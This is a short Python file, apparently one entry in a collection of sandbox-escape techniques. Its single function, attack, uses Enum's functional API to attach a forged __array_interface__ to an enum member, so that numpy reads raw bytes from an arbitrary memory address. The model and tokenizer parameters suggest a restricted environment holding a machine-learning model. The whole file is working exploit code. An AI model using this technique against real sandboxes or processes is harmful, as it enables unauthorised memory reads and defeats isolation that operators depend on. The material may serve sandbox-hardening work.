"""Class: class machinery. Source: own find. Escape: the functional enum API sets dunder attributes."""

from enum import Enum
import numpy as np


class E(Enum):
    pass


def attack(model, tokenizer, address):
    interface = {"shape": (6,), "typestr": "|u1", "data": (address, True), "version": 3}
    made = E("C", {"A": 1, "__array_interface__": interface})
    return np.array(made.A).tobytes()
